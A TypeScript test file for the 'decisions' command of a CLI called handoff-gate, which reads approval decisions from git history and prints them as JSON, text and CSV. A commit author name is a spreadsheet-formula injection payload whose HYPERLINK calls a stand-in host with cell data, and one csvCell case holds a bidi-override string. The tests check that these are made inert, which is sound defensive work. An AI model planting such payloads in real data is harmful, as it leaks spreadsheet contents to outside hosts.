/**
 * `handoff-gate decisions`: every decision on the default branch's history, read from a real git
 * repository built here commit by commit, as the bot and people write them: the bot's commands
 * (committed directly, squash-merged, merged by a merge commit) and the decisions people took
 * outside the inbox, which the rules that guard a decision report.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, removeRepos, repo } from './in-process.js';
import { csvCell } from '../../src/cli/decision-output.js';

afterAll(removeRepos);

const intent = (status: string, risk = 'high', extra = '') =>
  `title: Rotate the signing keys\nbody: Replace the release signing keys.\ntype: fix\nsource: human\nrisk: ${risk}\nstatus: ${status}\ncreated_at: 2025-03-05T12:05:00Z\n${extra}`;
const QUESTION = 'shared/questions/pm-to-human/20250124-005-q.md';
const question = (status: string) =>
  `---\nid: 20250124-005-q\nfrom: pm\nto: human\ntype: question\npriority: high\nstatus: ${status}\ncreated_at: 2025-01-24T12:00:00Z\n---\n\n# 質問: Which database for sessions?\n\n## 質問内容\nRedis or Postgres?\n`;

/** The hostile name a commit can claim: a spreadsheet formula, a comma, a quote, a line break. */
const HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"ok"), hi';

let root: string;
let day = 1;
const shas: Record<string, string> = {};

function git(...args: string[]): string {
  return execFileSync('git', args, {
    cwd: root,
    encoding: 'utf8',
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: 'Pat',
      GIT_AUTHOR_EMAIL: 'pat@example.com',
      GIT_COMMITTER_NAME: 'Pat',
      GIT_COMMITTER_EMAIL: 'pat@example.com',
    },
  }).trim();
}

/** Writes (or, for null, deletes) files and commits them as `author`, one day after the last commit. */
function commit(name: string, files: Record<string, string | null>, message: string, author = 'Pat'): void {
  for (const [path, text] of Object.entries(files)) {
    const full = join(root, path);
    if (text === null) rmSync(full);
    else {
      mkdirSync(dirname(full), { recursive: true });
      writeFileSync(full, text);
    }
  }
  git('add', '-A');
  const date = `2026-01-${String(day++).padStart(2, '0')}T10:00:00+00:00`;
  execFileSync('git', ['commit', '-qm', message, `--author=${author} <a@example.com>`], {
    cwd: root,
    env: {
      ...process.env,
      GIT_COMMITTER_NAME: 'Pat',
      GIT_COMMITTER_EMAIL: 'p@example.com',
      GIT_COMMITTER_DATE: date,
      GIT_AUTHOR_DATE: date,
    },
  });
  shas[name] = git('rev-parse', 'HEAD');
}

const bot = (subject: string, comment: number, by: string, more = '') =>
  `${subject}${more}\n\nHandoff-Gate-Comment: ${comment}\nHandoff-Gate-By: ${by}`;

beforeAll(() => {
  root = repo({ 'README.md': '# x\n' });
  git('checkout', '-qb', 'main');
  commit(
    'start',
    {
      '.forge/intents/rotate-keys.yaml': intent('proposed'),
      '.forge/intents/clean-logs.yaml': intent(
        'proposed',
        'med',
        'clarifications:\n  - question: Which logs?\n    answer: null\n',
      ),
      '.forge/intents/drop-cache.yaml': intent('proposed'),
      '.forge/intents/flaky.yaml': intent('blocked', 'low'),
      '.forge/intents/skip-me.yaml': intent('proposed'),
      '.forge/intents/drop-me.yaml': intent('proposed'),
      [QUESTION]: question('pending'),
    },
    'Propose the work',
  );
  commit(
    'approve',
    { '.forge/intents/rotate-keys.yaml': intent('approved') },
    bot(
      'handoff-gate: /approve intent rotate-keys (by alice)',
      101,
      'alice',
      '\n\nApproved-by: alice\nApproved-by: bob',
    ),
  );
  commit(
    'answer',
    {
      '.forge/intents/clean-logs.yaml': intent(
        'proposed',
        'med',
        'clarifications:\n  - question: Which logs?\n    answer: The access logs.\n',
      ),
    },
    bot('handoff-gate: /answer clarification 1 of intent clean-logs (by carol)', 102, 'carol'),
  );
  commit(
    'reject',
    { '.forge/intents/drop-cache.yaml': null },
    bot('handoff-gate: /reject intent drop-cache (by dave)', 103, 'dave', '\n\nReason:\n> not now'),
  );
  // A command's pull request, squash-merged: GitHub appends the pull request's number to the subject.
  commit(
    'retry',
    { '.forge/intents/flaky.yaml': intent('approved', 'low') },
    bot('handoff-gate: /retry intent flaky (by erin) (#12)', 104, 'erin'),
  );
  // A command's pull request merged by a merge commit: the merge is the inbox's, not a decision outside it.
  git('checkout', '-qb', 'handoff-gate/answer-question-105');
  commit(
    'question',
    {
      [QUESTION]: question('completed'),
      'shared/questions/answers/20250124-005-q.md': `---\nid: 01HQANSWER0000000000000000\nfrom: human\nto: pm\ntype: answer\npriority: high\nstatus: completed\ncreated_at: 2025-01-24T13:00:00Z\nparent_id: 20250124-005-q\n---\n\n# 回答: Which database for sessions?\n\n## 回答\nRedis.\n`,
    },
    bot('handoff-gate: /answer question 20250124-005-q (by frank)', 105, 'frank'),
  );
  git('checkout', '-q', 'main');
  execFileSync('git', ['merge', '-q', '--no-ff', '-m', 'Merge the answer', 'handoff-gate/answer-question-105'], {
    cwd: root,
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: 'Pat',
      GIT_AUTHOR_EMAIL: 'p@example.com',
      GIT_COMMITTER_NAME: 'Pat',
      GIT_COMMITTER_EMAIL: 'p@example.com',
      GIT_COMMITTER_DATE: `2026-01-${String(day++).padStart(2, '0')}T10:00:00+00:00`,
    },
  });
  shas.merge = git('rev-parse', 'HEAD');
  // A person moves a high-risk intent past `proposed` by hand: a decision outside the inbox.
  commit('skip', { '.forge/intents/skip-me.yaml': intent('executing') }, 'Start the work', HOSTILE);
  // An ordinary change decides nothing.
  commit('docs', { 'README.md': '# x\n\nMore.\n' }, 'Say more');
  // A person deletes a high-risk intent that waits for approval: a rejection outside the inbox.
  commit('drop', { '.forge/intents/drop-me.yaml': null }, 'Drop it', 'Dee');
});

interface Row {
  kind: string;
  item: string;
  state: string;
  who: string;
  approvers: string[];
  when: string;
  commit: string;
  comment?: number;
  path?: string;
  line?: number;
  ruleId?: string;
}

describe('decisions', () => {
  it('lists every kind of decision, oldest first, with item, state, who, when and commit (JSON)', async () => {
    const run = await cli(['decisions', '--format', 'json'], root);
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const log = JSON.parse(run.stdout) as { version: number; who: string; complete: boolean; decisions: Row[] };
    expect(log).toMatchObject({ version: 1, who: 'claimed', complete: true });
    expect(log.decisions).toEqual([
      {
        kind: 'approve',
        item: 'intent rotate-keys',
        state: 'approved',
        who: 'alice',
        approvers: ['alice', 'bob'],
        when: '2026-01-02T10:00:00+00:00',
        commit: shas.approve,
        comment: 101,
      },
      {
        kind: 'answer',
        item: 'clarification 1 of intent clean-logs',
        state: 'answered',
        who: 'carol',
        approvers: [],
        when: '2026-01-03T10:00:00+00:00',
        commit: shas.answer,
        comment: 102,
      },
      {
        kind: 'reject',
        item: 'intent drop-cache',
        state: 'rejected (file deleted)',
        who: 'dave',
        approvers: [],
        when: '2026-01-04T10:00:00+00:00',
        commit: shas.reject,
        comment: 103,
      },
      {
        kind: 'retry',
        item: 'intent flaky',
        state: 'sent back to approved (retry)',
        who: 'erin',
        approvers: [],
        when: '2026-01-05T10:00:00+00:00',
        commit: shas.retry,
        comment: 104,
      },
      {
        kind: 'answer',
        item: 'question 20250124-005-q',
        state: 'answered',
        who: 'frank',
        approvers: [],
        when: '2026-01-06T10:00:00+00:00',
        commit: shas.question,
        comment: 105,
      },
      {
        kind: 'outside-inbox',
        item: '.forge/intents/skip-me.yaml',
        state: 'approval skipped',
        who: HOSTILE,
        approvers: [],
        when: '2026-01-08T10:00:00+00:00',
        commit: shas.skip,
        path: '.forge/intents/skip-me.yaml',
        line: 6,
        ruleId: 'intent/approval-skipped',
      },
      {
        kind: 'outside-inbox',
        item: '.forge/intents/drop-me.yaml',
        state: 'deleted outside the inbox',
        who: 'Dee',
        approvers: [],
        when: '2026-01-10T10:00:00+00:00',
        commit: shas.drop,
        path: '.forge/intents/drop-me.yaml',
        line: 6,
        ruleId: 'intent/deleted-outside-inbox',
      },
    ]);
  });

  it('as text: one line per decision, saying that `who` is what the commit claims', async () => {
    const run = await cli(['decisions'], root);
    expect(run.status).toBe(0);
    const lines = run.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe(
      '7 decisions. who is the name each commit claims (the bot’s Handoff-Gate-By: trailer, else the commit’s author), read locally from git: a commit can claim any name. GitHub’s record of who commented is on each command’s issue.',
    );
    expect(lines[1]).toBe(
      `2026-01-02T10:00:00+00:00  ${shas.approve!.slice(0, 12)}  approve  intent rotate-keys  approved  by alice (approvers: alice, bob)`,
    );
    expect(lines[6]).toBe(
      `2026-01-08T10:00:00+00:00  ${shas.skip!.slice(0, 12)}  outside-inbox  .forge/intents/skip-me.yaml:6  approval skipped  by ${HOSTILE}  [intent/approval-skipped]`,
    );
    expect(lines[7]).toBe(
      `2026-01-10T10:00:00+00:00  ${shas.drop!.slice(0, 12)}  outside-inbox  .forge/intents/drop-me.yaml:6  deleted outside the inbox  by Dee  [intent/deleted-outside-inbox]`,
    );
    expect(lines).toHaveLength(8);
  });

  it('as CSV: a header, RFC 4180 quoting, and a claimed name that is a formula made inert', async () => {
    const run = await cli(['decisions', '--format', 'csv'], root);
    expect(run.status).toBe(0);
    const rows = run.stdout.split('\r\n');
    expect(rows[0]).toBe('when,commit,kind,item,state,who,approvers,path,line,rule');
    expect(rows[1]).toBe(
      `2026-01-02T10:00:00+00:00,${shas.approve},approve,intent rotate-keys,approved,alice,alice bob,,,`,
    );
    expect(rows[6]).toBe(
      `2026-01-08T10:00:00+00:00,${shas.skip},outside-inbox,.forge/intents/skip-me.yaml,approval skipped,"'=HYPERLINK(""http://x.example/?""&A1,""ok""), hi",,.forge/intents/skip-me.yaml,6,intent/approval-skipped`,
    );
    expect(rows).toHaveLength(9);
    expect(rows[8]).toBe('');
  });

  it('--since keeps the decisions from that date on', async () => {
    const run = await cli(['decisions', '--since', '2026-01-05', '--format', 'json'], root);
    const log = JSON.parse(run.stdout) as { decisions: Row[] };
    expect(log.decisions.map((d) => d.kind)).toEqual(['retry', 'answer', 'outside-inbox', 'outside-inbox']);
  });

  it('a bad --since, a second PATH and a format of another command are usage errors', async () => {
    const run = await cli(['decisions', '--since', 'last week', '--format', 'sarif'], root);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('--since must be a date (2026-01-31) or a time with its offset');
    expect(run.stderr).toContain('--format must be one of text, json, csv; got sarif');
  });

  it('a commit it could not judge is named, and the exit status is 1: a log that stops short never reads as complete', async () => {
    const dir = repo({ '.github/handoff-gate.yml': 'limits:\n  run-bytes: 10\n', 'README.md': '# x\n' });
    const at = (args: string[]) =>
      execFileSync('git', ['-c', 'user.name=Pat', '-c', 'user.email=p@example.com', ...args], {
        cwd: dir,
        encoding: 'utf8',
      }).trim();
    at(['add', '-A']);
    at(['commit', '-qm', 'Start']);
    mkdirSync(join(dir, '.forge/intents'), { recursive: true });
    // The run's byte bound lets the first file through and stops at the second.
    writeFileSync(join(dir, '.forge/intents/a.yaml'), intent('proposed'));
    writeFileSync(join(dir, '.forge/intents/b.yaml'), intent('proposed'));
    at(['add', '-A']);
    at(['commit', '-qm', 'Propose']);
    const sha = at(['rev-parse', 'HEAD']);
    const run = await cli(['decisions', '--format', 'json'], dir);
    expect(run.status).toBe(1);
    const log = JSON.parse(run.stdout) as { complete: boolean; decisions: Row[]; unread: string[] };
    expect(log.complete).toBe(false);
    expect(log.unread).toEqual([`${sha.slice(0, 12)}: .forge/intents/b.yaml could not be judged (file/not-judged)`]);
    expect(run.stderr).toBe(`handoff-gate: not read: ${log.unread[0]}\n`);
  });

  it('outside a git repository: exit 2, saying so', async () => {
    const dir = repo({});
    rmSync(join(dir, '.git'), { recursive: true, force: true });
    const run = await cli(['decisions'], dir);
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('reads the history of a git repository');
  });
});

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\nlines"'],
    ['plain', 'plain'],
    ['\u202Eevil', '<U+202E>evil'],
  ])('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
